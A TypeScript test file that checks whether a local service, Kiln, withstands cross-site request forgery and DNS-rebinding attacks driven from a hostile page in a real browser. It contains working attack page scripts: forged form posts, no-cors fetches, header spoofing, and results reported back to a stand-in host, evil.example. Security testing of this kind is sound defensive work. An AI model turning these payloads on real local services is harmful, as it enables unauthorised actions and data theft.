/** Two attacks by a web page on a Kiln without keys, in a real browser. */
import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { connect, createServer as createTcpServer, type AddressInfo, type Socket } from 'node:net';
import { text } from 'node:stream/consumers';
import { expect, onTestFinished, test } from 'vitest';
import { countEffects, engineNamed } from '../integration/api/support.ts';
import { startKiln } from '../support/kiln.ts';
import { openAddress } from '../support/browser/open-address.ts';
import { waitFor } from '../support/wait-for.ts';

/** Serves the page of the attacker, and collects what it reports. */
async function startAttacker(page: () => string) {
  const reports: string[] = [];
  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    if (request.method === 'POST') reports.push(await text(request));
    response.writeHead(200, {
      'content-type': 'text/html',
      'access-control-allow-origin': '*',
      connection: 'close',
    });
    response.end(request.url === '/' ? page() : '');
  };
  const server = createServer((request, response) => void answer(request, response));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => void server.close());
  return { reports, port: (server.address() as AddressInfo).port };
}

const start = () => startKiln({ engine: engineNamed('postgres'), workers: false });

/** What the page of another site tries without asking the browser for permission. */
const forms = (kiln: string): string => `<!doctype html><script>
const form = (path, name, file, fields) => new Promise((resolve) => {
  const frame = Object.assign(document.createElement('iframe'), { name: path });
  document.body.append(frame);
  const form = Object.assign(document.createElement('form'), {
    method: 'POST', enctype: 'multipart/form-data', action: '${kiln}' + path, target: path });
  const input = Object.assign(document.createElement('input'), { type: 'file', name });
  const chosen = new DataTransfer();
  chosen.items.add(file);
  input.files = chosen.files;
  form.append(input);
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement('input'), { name, value }));
  document.body.append(form);
  frame.onload = resolve;
  form.submit();
});
const post = (path, body) => fetch('${kiln}' + path, { method: 'POST', mode: 'no-cors', body })
  .then(() => 'sent', (error) => String(error));
onload = async () => {
  const table = new File(['prompt\\nA boat\\n'], 'a.csv', { type: 'text/csv' });
  await form('/v1/batches', 'file', table, {});
  await form('/v1/files', 'file', new File(['{}'], 'a.jsonl'), { purpose: 'batch' });
  const tried = await Promise.all([
    post('/v1/pools/default/pause'), post('/v1/webhook_secret/rotate'),
    post('/v1/jobs', '{"prompt": "A boat"}'),
  ]);
  const read = await fetch('${kiln}/v1/jobs').then((answer) => answer.text(), () => 'unread');
  await fetch('/report', { method: 'POST', body: JSON.stringify({ tried, read }) });
};
</script><body>`;

test('a page of another site starts no batch, uploads nothing and pauses no pool', async () => {
  const kiln = await start();
  const before = await countEffects(kiln);
  const attacker = await startAttacker(() => forms(kiln.url));
  await openAddress(`http://evil.example:${attacker.port}/`);
  await waitFor(() => attacker.reports.length > 0, { what: 'the page to have tried everything' });
  expect(JSON.parse(attacker.reports[0] ?? '')).toEqual({
    tried: ['sent', 'sent', 'sent'], // the browser sends such requests: only Kiln can refuse them
    read: 'unread',
  });
  const { rows } = await kiln.deps.records.pool.query<{ count: number }>(
    'select (select count(*) from kiln.batches) + (select count(*) from kiln.files) as count',
  );
  const { data: pools } = (await (await kiln.request('/v1/pools')).json()) as { data: object[] };
  expect(Number(rows[0]?.count)).toBe(0);
  expect(pools).toMatchObject([{ status: 'open' }]);
  expect((await kiln.request('/v1/webhook_secret')).status).toBe(404);
  expect(await countEffects(kiln)).toEqual(before);
});

/** Its name leads to the attacker at first, and to Kiln when the page has been loaded. */
const rebound = (report: string): string => `<!doctype html><script>
onload = async () => {
  const ask = (init) => fetch('/v1/jobs', { cache: 'no-store', ...init })
    .then(async (answer) => [answer.status, (await answer.text()).includes('"object":"list"')])
    .catch(() => null);
  let read = null;
  while (read === null || read[0] === 200 && !read[1]) read = await ask();
  const made = await ask({ method: 'POST', body: '{"prompt": "A boat"}',
    headers: { 'content-type': 'application/json', 'x-forwarded-host': 'localhost' } });
  await fetch('${report}', { method: 'POST', body: JSON.stringify({ read, made }) });
};
</script>`;

test('a page whose name leads to this machine later reads nothing and starts nothing', async () => {
  const kiln = await start();
  await kiln.submit();
  const before = await countEffects(kiln);
  const attacker = await startAttacker(() => rebound(`http://evil.example:${attacker.port}/`));
  const sockets = new Set<Socket>();
  let target = attacker.port;
  const name = createTcpServer((socket) => {
    const upstream = connect(target, '127.0.0.1');
    sockets.add(socket);
    socket.on('error', () => undefined).on('close', () => upstream.destroy());
    upstream.on('error', () => undefined).on('close', () => socket.destroy());
    // The page has arrived: from its next connection on, the name leads to Kiln.
    upstream.once('data', () => (target = Number(new URL(kiln.url).port)));
    socket.pipe(upstream).pipe(socket);
  });
  name.listen(0, '127.0.0.1');
  await once(name, 'listening');
  onTestFinished(() => {
    for (const socket of sockets) socket.destroy();
    name.close();
  });
  await openAddress(`http://rebound.example:${(name.address() as AddressInfo).port}/`);
  await waitFor(() => attacker.reports.length > 0, { what: 'the page to have tried everything' });
  expect(JSON.parse(attacker.reports[0] ?? '')).toEqual({ read: [421, false], made: [421, false] });
  expect(await countEffects(kiln)).toEqual(before);
});
